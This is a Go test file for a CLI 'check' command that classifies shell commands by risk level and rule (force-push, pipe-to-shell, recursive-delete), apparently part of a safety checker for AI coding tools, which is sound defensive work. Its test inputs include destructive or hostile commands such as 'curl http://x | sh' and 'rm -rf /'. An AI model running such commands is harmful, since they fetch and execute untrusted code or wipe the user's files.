package cli

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/cc-extention/cc-ext/internal/core"
	"github.com/cc-extention/cc-ext/internal/locale"
)

func TestCheckCommand_JSON(t *testing.T) {
	setupTestEnv(t)

	stdout, _, err := executeCommand(newTestRootCmd(t), "check", "git push --force; curl http://x | sh", "-j")
	if err != nil {
		t.Fatalf("check returned error: %v", err)
	}

	var report checkReport
	if err := json.Unmarshal([]byte(stdout), &report); err != nil {
		t.Fatalf("invalid JSON: %v; out=%q", err, stdout)
	}
	if report.Level != "high" || report.Rule != "pipe-to-shell" || report.Lang != locale.English {
		t.Fatalf("unexpected report %+v", report)
	}
	if len(report.Segments) != 3 {
		t.Fatalf("expected 3 segments, got %+v", report.Segments)
	}
	want := []struct{ level, rule string }{
		{"medium", "force-push"},
		{"none", ""},
		{"high", "pipe-to-shell"},
	}
	for i, w := range want {
		if report.Segments[i].Level != w.level || report.Segments[i].Rule != w.rule {
			t.Fatalf("segment %d = %+v, want %s/%s", i, report.Segments[i], w.level, w.rule)
		}
	}
	if !strings.Contains(report.Message, "Multiple risks") {
		t.Fatalf("unexpected message %q", report.Message)
	}
}

func TestCheckCommand_LangFlag(t *testing.T) {
	setupTestEnv(t)

	stdout, _, err := executeCommand(newTestRootCmd(t), "check", "git reset --hard", "--lang", "ja", "-o", "json")
	if err != nil {
		t.Fatalf("check returned error: %v", err)
	}
	var report checkReport
	if err := json.Unmarshal([]byte(stdout), &report); err != nil {
		t.Fatalf("invalid JSON: %v", err)
	}
	if report.Lang != locale.Japanese || !strings.Contains(report.Message, "中リスク") {
		t.Fatalf("expected Japanese message, got %+v", report)
	}
}

func TestCheckCommand_ExitCode(t *testing.T) {
	setupTestEnv(t)

	_, _, err := executeCommand(newTestRootCmd(t), "check", "rm -rf /", "--exit-code")
	if !errors.Is(err, errRiskDetected) {
		t.Fatalf("expected errRiskDetected, got %v", err)
	}

	if _, _, err := executeCommand(newTestRootCmd(t), "check", "ls", "--exit-code"); err != nil {
		t.Fatalf("expected no error for a safe command, got %v", err)
	}

	// Without the flag a risky command still succeeds.
	if _, _, err := executeCommand(newTestRootCmd(t), "check", "rm -rf /"); err != nil {
		t.Fatalf("expected no error without --exit-code, got %v", err)
	}
}

func TestCheckCommand_TextOutput(t *testing.T) {
	setupTestEnv(t)

	stdout, _, err := executeCommand(newTestRootCmd(t), "check", "FOO=1 rm -rf /tmp/x && echo ok")
	if err != nil {
		t.Fatalf("check returned error: %v", err)
	}
	for _, want := range []string{"VERDICT", "HIGH", "FOO=1 rm -rf /tmp/x", "[recursive-delete]", "echo ok"} {
		if !strings.Contains(stdout, want) {
			t.Fatalf("expected %q in output:\n%s", want, stdout)
		}
	}

	stdout, _, _ = executeCommand(newTestRootCmd(t), "check", "ls")
	if !strings.Contains(stdout, "no elevated risk") {
		t.Fatalf("expected safe verdict text, got:\n%s", stdout)
	}
}

func TestBuildCheckReport_DuplicateSegments(t *testing.T) {
	report := buildCheckReport(core.GetDefaultEngine(), "rm a; ls; rm a", locale.English)
	if len(report.Segments) != 3 {
		t.Fatalf("expected 3 segments, got %d", len(report.Segments))
	}
	if report.Segments[0].Rule != "file-delete" || report.Segments[1].Rule != "" || report.Segments[2].Rule != "file-delete" {
		t.Fatalf("matches not paired with segments: %+v", report.Segments)
	}
}

func TestArgvOf(t *testing.T) {
	got := argvOf(`FOO=bar git commit -m "fix: a && b"`)
	want := []string{"git", "commit", "-m", "fix: a && b"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("argvOf = %#v, want %#v", got, want)
	}
	if argvOf(`echo "unterminated`) != nil {
		t.Fatalf("expected nil argv for unparsable input")
	}
}
